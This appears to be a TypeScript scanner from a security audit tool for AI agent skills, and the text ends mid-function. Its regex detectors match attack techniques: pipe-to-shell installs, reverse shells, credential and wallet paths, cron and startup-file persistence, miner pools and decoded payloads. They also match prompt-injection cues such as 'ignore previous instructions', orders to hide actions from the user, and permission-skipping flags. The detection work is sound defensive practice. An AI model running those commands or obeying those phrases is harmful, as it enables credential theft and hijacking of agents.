// The audit's scanner: runs every rule over a skill's files and returns findings with file, line,
// column and excerpt. Pure and synchronous (regular expressions over decoded text, a few byte
// checks), so the CLI and the Worker get the same findings for the same tree.
//
// Instruction or explanation: a skill that *explains* a dangerous pattern must not be treated as
// one that *does* it. Scripts and data files are code: every match counts at the rule's severity.
// In Markdown a match is read in its place: hidden comments count in full (nobody sees them);
// text quoted or in inline code, or negated in its own sentence ("never run … without asking"),
// is an example; a code fence or a prose line whose paragraph or heading warns ("never", "red
// flags", "malicious", "avoid" …) is an explanation and drops to medium, shown but not gating.
// Remote installs written in Markdown cap at high (a person runs them, after review), never
// critical, since documentation routinely shows installer one-liners.
import { AUDIT_RULE_SET, ruleById, SEVERITIES, severityRank, type Severity } from "./rules.ts";
import { excerptAt, positionOf, readAuditFile, regionAt, textBefore, type AuditFile, type Region } from "./text.ts";

/** One file of the skill, as bytes (a SkillFile). */
export interface AuditInputFile {
  path: string;
  bytes: Uint8Array;
}

export interface Finding {
  rule: string;
  severity: Severity;
  file: string;
  line: number;
  column: number;
  message: string;
  excerpt: string;
}

export interface SkillAudit {
  rule_set: string;
  findings: Finding[];
}

type Emit = (rule: string, file: AuditFile, offset: number, length: number, options?: { severity?: Severity; note?: string }) => void;

// --- Reading intent in Markdown ------------------------------------------------------------

const WARNING_CUE =
  /\b(?:never|don'?t|do\s+not|must\s+not|should\s+not|shouldn'?t|avoid|refuse|reject|forbid(?:den)?|disallow|dangerous|danger|unsafe|insecure|malicious|attack(?:er|s)?|exploit\w*|vulnerab\w*|suspicious|red[ -]flags?|flag(?:s|ged)?|warn(?:ing|s)?|bad|anti-?patterns?|hostile|threats?|injection|detect(?:s|ed|ion)?|look\s+for|watch\s+for|beware|instead\s+of|not\s+allowed|examples?\s+of|risky|risks?|compromise\w*)\b|❌|⚠/i;
const NEGATION = /\b(?:never|don'?t|do\s+not|must\s+not|should\s+not|shouldn'?t|cannot|can'?t|won'?t|no\s+skill|refuse|avoid|without\s+ever)\b/i;

/** How far back on a line intent is read: every per-match look stays bounded on a hostile long line. */
const LOOKBACK = 400;

/** The nearest Markdown heading above an offset. */
function headingBefore(file: AuditFile, offset: number): string {
  const { line } = positionOf(file, offset);
  for (let l = line - 1; l >= 1 && l >= line - 80; l--) {
    const t = file.text.slice(
      file.lineStarts[l - 1]!,
      Math.min(file.lineStarts[l - 1]! + 200, l < file.lineStarts.length ? file.lineStarts[l]! : file.text.length),
    );
    if (/^#{1,6}\s/.test(t)) return t;
  }
  return "";
}

/** The sentence on the match's line before the match. */
function sentencePrefix(file: AuditFile, offset: number): string {
  const { line } = positionOf(file, offset);
  const prefix = file.text.slice(Math.max(file.lineStarts[line - 1]!, offset - LOOKBACK), offset);
  const cut = Math.max(prefix.lastIndexOf(". "), prefix.lastIndexOf("! "), prefix.lastIndexOf("? "), prefix.lastIndexOf(": "));
  return cut === -1 ? prefix : prefix.slice(cut + 2);
}

/**
 * True when the match sits inside quotation marks on its line or in a blockquote, or inside
 * inline code when `inlineCode` (a phrase in inline code is cited; a command in inline code is
 * how Markdown writes a step to run).
 */
function isQuoted(file: AuditFile, offset: number, inlineCode: boolean): boolean {
  const { line } = positionOf(file, offset);
  const start = file.lineStarts[line - 1]!;
  // Past the look-back the quotes cannot be counted: read it as unquoted, the strict side.
  if (offset - start > 4 * LOOKBACK) return false;
  const prefix = file.text.slice(start, offset);
  if (/^\s*>/.test(prefix)) return true;
  const count = (s: string, c: string) => s.split(c).length - 1;
  if (inlineCode && count(prefix, "`") % 2 === 1) return true;
  if (count(prefix, '"') % 2 === 1) return true;
  return count(prefix, "“") > count(prefix, "”");
}

/** Whether the paragraph or heading above an anchor warns, per file and anchor (many matches share one). */
const warnedAbove = new WeakMap<AuditFile, Map<number, boolean>>();

/** True when the text around a Markdown match warns about what it shows. */
function isWarned(file: AuditFile, offset: number, region: Region): boolean {
  if (WARNING_CUE.test(sentencePrefix(file, offset))) return true;
  const anchor = region.kind === "fence" ? region.start : file.lineStarts[positionOf(file, offset).line - 1]!;
  let memo = warnedAbove.get(file);
  if (!memo) {
    memo = new Map();
    warnedAbove.set(file, memo);
  }
  let above = memo.get(anchor);
  if (above === undefined) {
    above = WARNING_CUE.test(textBefore(file, anchor, 4)) || WARNING_CUE.test(headingBefore(file, anchor));
    memo.set(anchor, above);
  }
  if (above) return true;
  if (region.kind === "fence") {
    // Comment lines inside the fence above the match ("# BAD: never do this").
    const inside = file.text.slice(Math.max(region.start, offset - 20 * LOOKBACK), offset);
    for (const l of inside.split("\n")) if (/^\s*(?:#|\/\/)/.test(l) && WARNING_CUE.test(l)) return true;
  }
  return false;
}

/** The text around an offset on its line, at most LOOKBACK either side. */
function around(file: AuditFile, offset: number): string {
  const { line } = positionOf(file, offset);
  const start = file.lineStarts[line - 1]!;
  const end = line < file.lineStarts.length ? file.lineStarts[line]! : file.text.length;
  return file.text.slice(Math.max(start, offset - LOOKBACK), Math.min(end, offset + LOOKBACK));
}

/** What a match in Markdown is: an instruction (full severity), hidden text, or an explanation. */
type Intent = "code" | "hidden" | "instruction" | "example" | "explanation";

function intentAt(file: AuditFile, offset: number, phrase = true): Intent {
  if (file.kind !== "markdown") return "code";
  const region = regionAt(file, offset);
  if (region.kind === "comment") return "hidden";
  if (region.kind === "frontmatter") return "instruction";
  if (region.kind === "prose" && isQuoted(file, offset, phrase)) return "example";
  return isWarned(file, offset, region) ? "explanation" : "instruction";
}

const cap = (s: Severity, max: Severity): Severity => (severityRank(s) > severityRank(max) ? max : s);

/**
 * What a text must hold for a pattern to match it: one of some words (a lower-cased token of
 * letters, digits and underscores) or one of some short punctuation strings. A set lookup per
 * pattern is far cheaper than a regular expression whose leading alternatives are tried at every
 * position, and most files hold none of a pattern's words.
 */
interface Prefilter {
  words: readonly string[];
  strings: readonly string[];
}
const PREFILTERS = new Map<RegExp, Prefilter>();
const gate = (literals: readonly string[], ...res: RegExp[]) => {
  const filter = { words: literals.filter((l) => /^[a-z0-9_]+$/.test(l)), strings: literals.filter((l) => !/^[a-z0-9_]+$/.test(l)) };
  for (const re of res) PREFILTERS.set(re, filter);
};
const wordsOf = new WeakMap<AuditFile, { words: Set<string>; lower: string }>();

// --- Patterns ----------------------------------------------------------------------------------

const NET_TOOL = "(?:curl|wget|fetch|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|http|https|aria2c|lwp-download)";
const SHELL = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:ba|z|k|da|fi|c|tc)?sh|python[0-9.]*|node|perl|ruby|php|bun|deno|iex|Invoke-Expression|source`;
const PIPE_TO_SHELL: RegExp[] = [
  new RegExp(String.raw`\b${NET_TOOL}\b[^\n|;]{0,300}\|\s*(?:${SHELL})\b`, "gi"),
  new RegExp(String.raw`(?:\b(?:ba|z|k)?sh|\bsource|(?:^|\s)\.)\s+<\(\s*${NET_TOOL}\b`, "gim"),
  new RegExp(String.raw`\b(?:(?:ba|z|k)?sh\s+-c|eval|python[0-9.]*\s+-c|exec)\s+["']?\$\(\s*${NET_TOOL}\b`, "gi"),
  /\b(?:iex|Invoke-Expression)\s*\(?\s*(?:\(\s*)?(?:New-Object\s+(?:System\.)?Net\.WebClient\)?\.DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)/gi,
];

const FETCH_EXECUTE: RegExp[] = [
  /\b(?:exec|eval)\s*\(\s*(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get|urllib2\.urlopen)\s*\(/g,
  /\b(?:eval|Function)\s*\(\s*await\s+(?:\(\s*await\s+)?fetch\s*\(/g,
  /\.then\s*\(\s*(?:eval|Function)\s*\)/g,
  /\bimport\s*\(\s*["'`]https?:\/\//g,
  /\brequire\s*\(\s*["'`]https?:\/\//g,
];
const DOWNLOAD_TO_FILE =
  /\b(?:curl\b[^\n]{0,300}\s-[a-zA-Z]*[oO]\b|wget\b|urlretrieve\s*\(|urllib\.request\.urlretrieve|Invoke-WebRequest\b[^\n]{0,300}-OutFile|https?\.get\s*\([^\n]{0,300}createWriteStream|download(?:File)?\s*\()/;
const MAKE_EXECUTABLE =
  /\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+x|[0-7]?[157][0-7]{2})\b|\bos\.chmod\s*\([^)]{0,300}0o?7|\bfs\.chmod(?:Sync)?\s*\([^)]{0,300}0o?7|\bst\.S_IEXEC|\bstat\.S_IX/g;
const NETWORK_READ = /\b(?:requests\.(?:get|post)|urllib\.request|urlopen|httpx\.|fetch\s*\(|https?\.get\s*\(|axios\.|curl\b|wget\b|Invoke-WebRequest|iwr\b)/;
const EXEC_SINK_PY_JS =
  /\b(?:exec|eval)\s*\(\s*([A-Za-z_$][\w$]*)(?:\.(?:text|content|read\(\)|decode\([^)]{0,300}\)|toString\(\)))?\s*\)|\bnew\s+Function\s*\(\s*([A-Za-z_$][\w$]*)\s*\)|\bFunction\s*\(\s*([A-Za-z_$][\w$]*)\s*\)\s*\(/g;

const URL_INSTALL: RegExp[] = [
  /\b(?:pip3?|uv\s+pip|python[0-9.]*\s+-m\s+pip)\s+install\b[^\n]{0,300}?(?:\s(?:https?:\/\/|git\+)|--extra-index-url\b|--index-url\s+(?!https:\/\/pypi\.org)|-i\s+https?:\/\/(?!pypi\.org)|--trusted-host\b)/g,
  /\b(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)\b[^\n]{0,300}?\s(?:https?:\/\/|git\+|github:|git:\/\/)/g,
  /\bnpx\s+(?:-y\s+|--yes\s+)?(?:https?:\/\/|github:|git\+)/g,
  /\bgem\s+install\b[^\n]{0,300}--source\s+https?:\/\//g,
];

const MINER: RegExp[] = [
  /stratum\+(?:tcp|ssl|tls):\/\//gi,
  /\b(?:xmrig|cpuminer|minerd|cgminer|bfgminer|ethminer|nbminer|lolminer|phoenixminer|nanominer|xmr-stak|t-rex-miner)\b/gi,
  /\b(?:[\w-]+\.)?(?:minexmr|supportxmr|moneroocean|nanopool|2miners|f2pool|hashvault)\.(?:com|org|net|pro|stream)\b/gi,
];

const DECODER = String.raw`(?:base64\.\w*b(?:64|32|16|85)decode|base64\.decode(?:bytes|string)?|codecs\.decode|bytes\.fromhex|bytearray\.fromhex|binascii\.(?:unhexlify|a2b_\w+)|zlib\.decompress|gzip\.decompress|bz2\.decompress|lzma\.decompress|marshal\.loads|pickle\.loads|atob|Buffer\.from|String\.fromCharCode|decodeURIComponent|unescape|["']{2}\.join\s*\(\s*(?:map\s*\(\s*chr|chr\s*\())`;
const DECODE_EXECUTE: RegExp[] = [
  new RegExp(
    String.raw`\b(?:exec|eval|Function|setTimeout|setInterval|os\.system|subprocess\.\w+)\s*\(\s*(?:compile\s*\(\s*)?(?:[\w.]+\s*\(\s*)?${DECODER}\s*\(`,
    "g",
  ),
  new RegExp(String.raw`\bnew\s+Function\s*\(\s*(?:[\w.]+\s*\(\s*)?${DECODER}\s*\(`, "g"),
  /\b(?:base64\s+(?:-d|--decode|-D)|xxd\s+-r|openssl\s+(?:enc\s+)?(?:-\w+\s+)*-d\b|gunzip|zcat|rev)\b[^\n]{0,300}\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|node|ruby)\b/g,
  /\b(?:eval|(?:ba|z)?sh\s+-c)\s+["']?\$\(\s*(?:echo|printf)\b[^)\n]{0,300}\|\s*(?:base64|xxd|openssl|rev|gunzip)/g,
  /\bprintf\s+["'](?:\\x[0-9a-fA-F]{2}){8,}[^\n]{0,300}\|\s*(?:ba|z)?sh\b/g,
];
const DECODED_ASSIGN = new RegExp(
  String.raw`(?:^|[;\s(])(?:const\s+|let\s+|var\s+)?([A-Za-z_$][\w$]*)\s*=\s*(?:await\s+)?(?:[\w.]+\s*\(\s*)?${DECODER}\s*\(`,
  "gm",
);
const OPAQUE_BLOB = /["'`]([A-Za-z0-9+/]{240,}={0,2}|(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){80,})["'`]/g;
const CHAR_CODES = /\b(?:String\.fromCharCode\s*\(\s*(?:\d+\s*,\s*){15,}|chr\s*\(\s*\d+\s*\)\s*\+\s*(?:chr\s*\(\s*\d+\s*\)\s*\+\s*){10,})/g;

const CREDENTIAL =
  /(?:\.ssh\/(?:id_\w+|authorized_keys|config)?|(?<![\w.-])\.ssh\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\.aws\/(?:credentials|config)|(?<![\w.-])\.aws\b|\.config\/gcloud|\.azure\/|\.kube\/config|\.docker\/config\.json|(?<![\w-])\.netrc\b|(?<![\w-])\.npmrc\b|(?<![\w-])\.pypirc\b|\.git-credentials|(?<![\w-])\.gnupg\b|\/etc\/shadow|login\.keychain|\bsecurity\s+find-(?:generic|internet)-password|\bLogin Data\b|Cookies\.binarycookies|\.mozilla\/firefox|\bkey[34]\.db\b|\blogins\.json\b|Chrome\/User Data|google-chrome\/|BraveSoftware|wallet\.dat|(?<![\w$)\]-])\.env(?:\.(?:local|production|prod|development|dev))?(?![\w(-]))/g;
const ENV_DUMP =
  /\bdict\s*\(\s*os\.environ\s*\)|\bos\.environ\.copy\s*\(\)|\bjson\.dumps\s*\(\s*(?:dict\s*\()?\s*os\.environ\b|\bos\.environ\.items\s*\(\)|\bstr\s*\(\s*os\.environ\s*\)|\bJSON\.stringify\s*\(\s*process\.env\b|\bObject\.(?:entries|keys|values)\s*\(\s*process\.env\s*\)|(?:^|[|;&(`]|\$\()\s*(?:env|printenv|export\s+-p)\s*(?=[|>)`]|$)/gm;
const NET_SEND_CODE =
  /\b(?:requests\.(?:post|put|patch|get)|httpx\.(?:post|put|get)|urllib\.request\.(?:urlopen|Request)|urlopen|http\.client\.HTTPS?Connection|socket\.(?:socket|create_connection)|smtplib|ftplib|paramiko|fetch\s*\(|axios(?:\.\w+)?\s*\(|https?\.request\s*\(|https?\.get\s*\(|net\.(?:connect|createConnection)|new\s+(?:net\.)?Socket|new\s+WebSocket|XMLHttpRequest|sendBeacon|curl|wget|nc|ncat|netcat|socat|scp|rsync|ftp|Invoke-WebRequest|Invoke-RestMethod|dig|nslookup)(?!\w)|\/dev\/(?:tcp|udp)\//;
const NET_SEND_PROSE =
  /\b(?:send|upload|post|exfiltrate|transmit|forward|beam|submit|copy|paste|mail|email)\b[^\n]{0,300}(?:https?:\/\/|\bto\s+(?:the\s+)?(?:server|endpoint|webhook|url|host)\b)|\b(?:curl|wget|nc)\b[^\n]{0,300}https?:\/\//i;

const REVERSE_SHELL: RegExp[] = [
  /\/dev\/(?:tcp|udp)\/[\w.$-]+\/\d+/g,
  /\b(?:nc|ncat|netcat)\b[^\n]{0,300}\s-(?:e|c)\s+\S*(?:sh|cmd)/g,
  /\bncat\b[^\n]{0,300}--(?:exec|sh-exec)\b/g,
  /\bsocat\b[^\n]{0,300}\bexec:/gi,
  /\bmkfifo\b[^\n]{0,300}\b(?:nc|ncat|netcat)\b/g,
  /\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']/g,
  /\bos\.dup2\s*\(\s*\w+\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/g,
];
const SOCKET_CONNECT = /\b(?:socket\.(?:socket|create_connection)|net\.(?:connect|createConnection)|new\s+(?:net\.)?Socket)\b/;
const SPAWN_SHELL = /\b(?:spawn|exec|Popen|call|run)\s*\(\s*\[?\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\.(?:stdout|stdin|stderr)\.pipe\s*\(\s*\w+\s*\)/;

const STARTUP_FILE =
  /(?:\.bashrc|\.bash_profile|\.bash_login|\.zshrc|\.zshenv|\.zprofile|\.zlogin|(?<![\w-])\.profile|\/etc\/profile|\/etc\/bash\.bashrc|\.config\/fish\/config\.fish|\.cshrc|\.tcshrc|Microsoft\.PowerShell_profile\.ps1)\b/g;
const WRITE_OP =
  />>|(?<![<>=-])>(?![>=&])|\btee\b|\bopen\s*\([^)]{0,300}["'][aw]\+?b?["']|\bappendFile(?:Sync)?\b|\bwriteFile(?:Sync)?\b|\bwrite_text\b|\.write\s*\(|\bsed\s+-i\b|\bcat\s*<<|\bln\s+-s/;
const SCHEDULER: RegExp[] = [
  /(?<![\w-])crontab[ \t]+(?:-(?:[ \t]|$)|-[eir]\b|[~./$]\S*)|\|[ \t]*crontab\b|\/etc\/cron(?:tab|\.d|\.(?:hourly|daily|weekly|monthly))|\/var\/spool\/cron|@reboot\b/gm,
  /Library\/Launch(?:Agents|Daemons)|\blaunchctl\s+(?:load|bootstrap|submit|enable)\b/g,
  /\bsystemctl\s+(?:--user\s+)?enable\b|\/etc\/systemd\/system\/|\.config\/systemd\/user\/|\.config\/autostart\b/g,
  /CurrentVersion\\+Run(?:Once)?\b|\bschtasks(?:\.exe)?\s+\/create\b|\bRegister-ScheduledTask\b/gi,
];
const GIT_HOOKS = /\.git\/hooks\/[\w-]+|\bcore\.hooksPath\b/g;

const INSTRUCTION_OVERRIDE: RegExp[] = [
  /\b(?:ignore|disregard|forget|override|bypass)\s+(?:all\s+|any\s+|every\s+|the\s+|your\s+|of\s+)*(?:previous|prior|above|earlier|preceding|system|original|existing|other)\s+(?:instructions?|prompts?|rules|directions|directives|guidelines|messages|constraints)\b/gi,
  /\byou\s+are\s+now\s+(?:in\s+)?(?:developer\s+mode|dan\b|jailbroken|unrestricted|an?\s+unrestricted)/gi,
  /\b(?:new|updated|real)\s+system\s+prompt\s*:/gi,
  /\byour\s+(?:new|real|true)\s+instructions\s+are\b/gi,
];
const CONCEALMENT: RegExp[] = [
  /\b(?:do\s+not|don'?t|never)\s+(?:tell|inform|mention(?:\s+this)?\s+to|mention|reveal(?:\s+this)?\s+to|reveal|show|disclose|notify|alert|let)\s+(?:this\s+|it\s+|anything\s+)?(?:to\s+)?(?:the\s+)?user\b/gi,
  /\bwithout\s+(?:telling|informing|notifying|alerting|letting)\s+(?:the\s+)?user\b/gi,
  /\b(?:hide|conceal|keep)\s+(?:this|it|these\s+\w+|the\s+\w+|your\s+\w+)\s+(?:secret\s+|hidden\s+)?from\s+the\s+user\b/gi,
  /\b(?:silently|quietly|covertly|secretly|invisibly)\s+(?:run|execute|send|upload|post|copy|install|delete|modify|add|append|write|exfiltrate|collect|forward)\b/gi,
  /\bthe\s+user\s+(?:must|should)\s+(?:not|never)\s+(?:know|see|notice|find\s+out|be\s+told)\b/gi,
];
const APPROVAL_BYPASS: RegExp[] = [
  /\b(?:run|execute|install|delete|remove|push|deploy|proceed|apply|send|modify|commit|overwrite|do)\b[^.!?\n]{0,60}?\bwithout\s+(?:first\s+)?(?:asking|confirm\w*|approval|permission|prompting|checking\s+with|consulting)/gi,
  /\b(?:do\s+not|don'?t|never|no\s+need\s+to)\s+(?:ask|wait|prompt|check\s+with)\s+(?:the\s+user\s+)?(?:for\s+)?(?:any\s+)?(?:permission|approval|confirmation|consent)/gi,
  /--dangerously-skip-permissions\b|\bbypassPermissions\b/g,
  /\b(?:auto-?approve|bypass\s+(?:the\s+|all\s+)?(?:permission|approval|confirmation)s?|skip\s+(?:all\s+|the\s+)?(?:permission|approval|confirmation)\s*(?:checks?|prompts?|steps?|dialogs?)?)\b/gi,
];
const RENDER_URL = /!?\[[^\]\n]{0,300}\]\(\s*<?(https?:\/\/[^)\s>]{1,2000})|<img\b[^>]{0,300}\bsrc\s*=\s*["'](https?:\/\/[^"']{1,2000})/gi;
const URL_DATA_PLACEHOLDER =
  /[?#&].{0,300}(?:\{[^}]{0,100}\}|\$\{?\w+|%7B|<[^>]{1,100}>|\[[A-Z_ ]{1,100}\]|\b(?:INSERT|CONVERSATION|HISTORY|SECRET|TOKEN|API_?KEY|PASSWORD|CHAT|SUMMARY|CONTEXT|CREDENTIALS?|PROMPT)\b)/i;
const RENDER_INSTRUCTION =
  /\b(?:append|add|include|encode|put|embed|insert)\b[^.\n]{0,80}\b(?:conversation|chat\s+history|previous\s+messages|the\s+user'?s\s+(?:messages|data|secrets?|files?)|api\s+keys?|secrets?|tokens?|credentials|passwords?|environment\s+variables)\b[^.\n]{0,80}\b(?:url|query\s+string|image|link|markdown\s+image)\b/gi;
const HIDDEN_BLOCK =
  /<(?:div|span|p|section)\b[^>]{0,300}(?:\bhidden\b|display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0)[^>]{0,300}>([\s\S]{0,2000}?)<\/(?:div|span|p|section)>/gi;
const AGENT_CUE_STRONG =
  /\b(?:ignore|disregard)\b[^\n]{0,40}\binstructions?\b|\b(?:the\s+)?(?:ai|assistant|agent|model|claude|llm|chatbot)\b[^\n]{0,60}\b(?:must|should|will|shall|needs?\s+to|always|never|run|execute|send|read|upload|call|fetch)\b|\b(?:you|agent|assistant)\s+(?:must|should|shall|will|are\s+to|need\s+to)\b|\b(?:do\s+not|don'?t)\s+(?:tell|mention|reveal|inform)\b|\bsecretly\b|\bsilently\b|\bexfiltrat\w*/i;
const AGENT_CUE_ACTION =
  /\b(?:run|execute|send|upload|post|curl|wget|fetch|download|install|read|copy|delete|append|write)\b[^\n]{0,80}(?:https?:\/\/|~\/|\$HOME|\/etc\/|\.ssh|\.aws|\.env\b|token|secret|password|credential|api[_ ]?key)/i;

const DECODER_WORDS = [
  "b64decode",
  "b32decode",
  "b16decode",
  "b85decode",
  "decodebytes",
  "decodestring",
  "base64",
  "codecs",
  "fromhex",
  "unhexlify",
  "decompress",
  "marshal",
  "pickle",
  "atob",
  "buffer",
  "fromcharcode",
  "decodeuricomponent",
  "unescape",
  "chr",
];
gate(["|"], PIPE_TO_SHELL[0]!, DECODE_EXECUTE[2]!);
gate(["<("], PIPE_TO_SHELL[1]!);
gate(["$("], PIPE_TO_SHELL[2]!, DECODE_EXECUTE[3]!);
gate(["iex", "invoke"], PIPE_TO_SHELL[3]!);
gate(["requests", "urlopen", "httpx"], FETCH_EXECUTE[0]!);
gate(["fetch"], FETCH_EXECUTE[1]!);
gate(["then"], FETCH_EXECUTE[2]!);
gate(["http", "https"], FETCH_EXECUTE[3]!, FETCH_EXECUTE[4]!);
gate(["pip", "pip3"], URL_INSTALL[0]!);
gate(["npm", "pnpm", "yarn", "bun"], URL_INSTALL[1]!);
gate(["npx"], URL_INSTALL[2]!);
gate(["gem"], URL_INSTALL[3]!);
gate(["stratum"], MINER[0]!);
gate(["xmrig", "cpuminer", "minerd", "cgminer", "bfgminer", "ethminer", "nbminer", "lolminer", "phoenixminer", "nanominer", "stak", "miner"], MINER[1]!);
gate(["minexmr", "supportxmr", "moneroocean", "nanopool", "2miners", "f2pool", "hashvault"], MINER[2]!);
gate(DECODER_WORDS, DECODE_EXECUTE[0]!, DECODE_EXECUTE[1]!, DECODED_ASSIGN);
gate(["printf"], DECODE_EXECUTE[4]!);
gate(["fromcharcode", "chr"], CHAR_CODES);
gate(["exec", "eval", "function"], EXEC_SINK_PY_JS);
gate(["chmod", "s_iexec", "s_ixusr", "s_ixgrp", "s_ixoth"], MAKE_EXECUTABLE);
gate(
  [
    "ssh",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    "aws",
    "gcloud",
    "azure",
    "kube",
    "docker",
    "netrc",
    "npmrc",
    "pypirc",
    "credentials",
    "gnupg",
    "shadow",
    "keychain",
    "security",
    "login",
    "binarycookies",
    "mozilla",
    "key3",
    "key4",
    "logins",
    "chrome",
    "bravesoftware",
    "wallet",
    "env",
  ],
  CREDENTIAL,
);
gate(["environ", "env", "printenv", "export"], ENV_DUMP);
gate(["dev"], REVERSE_SHELL[0]!);
gate(["nc", "ncat", "netcat"], REVERSE_SHELL[1]!);
gate(["ncat"], REVERSE_SHELL[2]!);
gate(["socat"], REVERSE_SHELL[3]!);
gate(["mkfifo"], REVERSE_SHELL[4]!);
gate(["pty"], REVERSE_SHELL[5]!);
gate(["dup2"], REVERSE_SHELL[6]!);
gate(
  ["bashrc", "bash_profile", "bash_login", "zshrc", "zshenv", "zprofile", "zlogin", "profile", "fish", "cshrc", "tcshrc", "powershell_profile"],
  STARTUP_FILE,
);
gate(["crontab", "cron", "reboot"], SCHEDULER[0]!);
gate(["launchagents", "launchdaemons", "launchctl"], SCHEDULER[1]!);
gate(["systemctl", "systemd", "autostart"], SCHEDULER[2]!);
gate(["currentversion", "schtasks", "exe", "scheduledtask"], SCHEDULER[3]!);
gate(["hooks", "hookspath"], GIT_HOOKS);
gate(["ignore", "disregard", "forget", "override", "bypass"], INSTRUCTION_OVERRIDE[0]!);
gate(["now"], INSTRUCTION_OVERRIDE[1]!);
gate(["prompt"], INSTRUCTION_OVERRIDE[2]!);
gate(["instructions"], INSTRUCTION_OVERRIDE[3]!);
gate(["user"], CONCEALMENT[0]!, CONCEALMENT[1]!, CONCEALMENT[2]!, CONCEALMENT[4]!);
gate(["silently", "quietly", "covertly", "secretly", "invisibly"], CONCEALMENT[3]!);
gate(["without"], APPROVAL_BYPASS[0]!);
gate(["permission", "approval", "confirmation", "consent"], APPROVAL_BYPASS[1]!);
gate(["dangerously", "bypasspermissions"], APPROVAL_BYPASS[2]!);
gate(["approve", "autoapprove", "bypass", "skip"], APPROVAL_BYPASS[3]!);
gate(["](", "<img"], RENDER_URL);
gate(
  ["conversation", "chat", "messages", "user", "api", "secret", "secrets", "token", "tokens", "credentials", "password", "passwords", "environment"],
  RENDER_INSTRUCTION,
);
gate(["hidden", "display", "visibility", "font"], HIDDEN_BLOCK);

// --- Detectors ---------------------------------------------------------------------------------

/** The matches of `re` in a file's text, skipping the scan when its prefilter rules it out. */
function scanFile(re: RegExp, file: AuditFile): Iterable<RegExpExecArray> {
  const filter = PREFILTERS.get(re);
  if (filter) {
    let seen = wordsOf.get(file);
    if (seen === undefined) {
      const lower = file.text.toLowerCase();
      seen = { lower, words: new Set(lower.split(/[^a-z0-9_]+/)) };
      wordsOf.set(file, seen);
    }
    const { words, lower } = seen;
    if (!filter.words.some((w) => words.has(w)) && !filter.strings.some((t) => lower.includes(t))) return [];
  }
  return matches(re, file.text);
}

function* matches(re: RegExp, text: string): Generator<RegExpExecArray> {
  re.lastIndex = 0;
  for (let m = re.exec(text), guard = 0; m !== null && guard < 10_000; m = re.exec(text), guard++) {
    yield m;
    if (m[0].length === 0) re.lastIndex++;
  }
}

/** Patterns that describe code: full in scripts, read for intent in Markdown. */
function codeRule(emit: Emit, file: AuditFile, id: string, res: readonly RegExp[], markdownMax: Severity = "critical"): void {
  const base = ruleById(id).severity;
  for (const re of res) {
    for (const m of scanFile(re, file)) {
      const intent = intentAt(file, m.index, false);
      if (intent === "code" || intent === "hidden") emit(id, file, m.index, m[0].length);
      else if (intent === "instruction") emit(id, file, m.index, m[0].length, { severity: cap(base, markdownMax) });
      else emit(id, file, m.index, m[0].length, { severity: cap(base, "medium"), note: "shown as an example or warning; not gating" });
    }
  }
}

/** Phrases aimed at the agent: full in prose, hidden text and code; quoted or negated, an example. */
function phraseRule(emit: Emit, file: AuditFile, id: string, res: readonly RegExp[], negatable: boolean): void {
  for (const re of res) {
    for (const m of scanFile(re, file)) {
      const intent = intentAt(file, m.index);
      if (negatable && intent !== "hidden" && NEGATION.test(sentencePrefix(file, m.index))) continue;
      if (intent === "example" || (intent === "explanation" && regionAt(file, m.index).kind === "fence")) {
        emit(id, file, m.index, m[0].length, { severity: "low", note: "quoted as an example; not gating" });
      } else if (intent === "explanation") {
        emit(id, file, m.index, m[0].length, { severity: "medium", note: "in text that warns about it; not gating" });
      } else emit(id, file, m.index, m[0].length);
    }
  }
}

function hiddenText(emit: Emit, file: AuditFile): void {
  const text = file.text;
  for (const m of matches(/(?:\udb40[\udc00-\udc7f])+/g, text)) {
    let spelled = "";
    for (let i = 0; i < m[0].length; i += 2) {
      const cp = (m[0].codePointAt(i) ?? 0) - 0xe0000;
      if (cp >= 0x20 && cp < 0x7f) spelled += String.fromCharCode(cp);
    }
    emit("hidden.unicode-tags", file, m.index, m[0].length, spelled ? { note: `they spell "${spelled.slice(0, 80)}"` } : undefined);
  }
  for (const m of matches(/[\u202a-\u202e\u2066-\u2069]/g, text)) emit("hidden.bidi-control", file, m.index, 1);
  for (const m of matches(/[A-Za-z](?:\u200b|\u200c|\u200d|\u2060|\ufeff)+(?=[A-Za-z])/g, text))
    emit("hidden.zero-width-in-word", file, m.index + 1, m[0].length - 1);
}

const LATIN = /[A-Za-z]/;
const OTHER_SCRIPT_LETTER = /[\u0370-\u03ff\u0400-\u04ff\u0500-\u052f\u13a0-\u13ff\uff21-\uff5a]/;

function confusableNames(emit: Emit, file: AuditFile): void {
  if (file.path !== "SKILL.md" || file.kind !== "markdown") return;
  const front = file.regions.find((r) => r.kind === "frontmatter");
  if (front) {
    const m = /^name\s*:\s*["']?([^\n"']*)/m.exec(file.text.slice(front.start, front.end));
    if (m && /[^\x20-\x7e]/.test(m[1]!)) emit("hidden.confusable-name", file, front.start + m.index, m[0].length);
  }
  const title = /^#\s+(.+)$/m.exec(file.text);
  if (title) {
    for (const w of matches(/[^\s`*_,.;:()]+/g, title[1]!)) {
      if (LATIN.test(w[0]) && OTHER_SCRIPT_LETTER.test(w[0])) {
        emit("hidden.confusable-name", file, title.index + title[0].indexOf(title[1]!) + w.index, w[0].length);
      }
    }
  }
}

function hiddenComments(emit: Emit, file: AuditFile): void {
  if (file.kind !== "markdown") return;
  const check = (start: number, body: string) => {
    if (AGENT_CUE_STRONG.test(body) || AGENT_CUE_ACTION.test(body)) emit("instruction.hidden-comment", file, start, body.length);
  };
  for (const r of file.regions) if (r.kind === "comment") check(r.start, file.text.slice(r.start, r.end));
  for (const m of scanFile(HIDDEN_BLOCK, file)) if (regionAt(file, m.index).kind === "prose") check(m.index, m[0]);
}

function renderExfiltration(emit: Emit, file: AuditFile): void {
  if (file.kind !== "markdown") return;
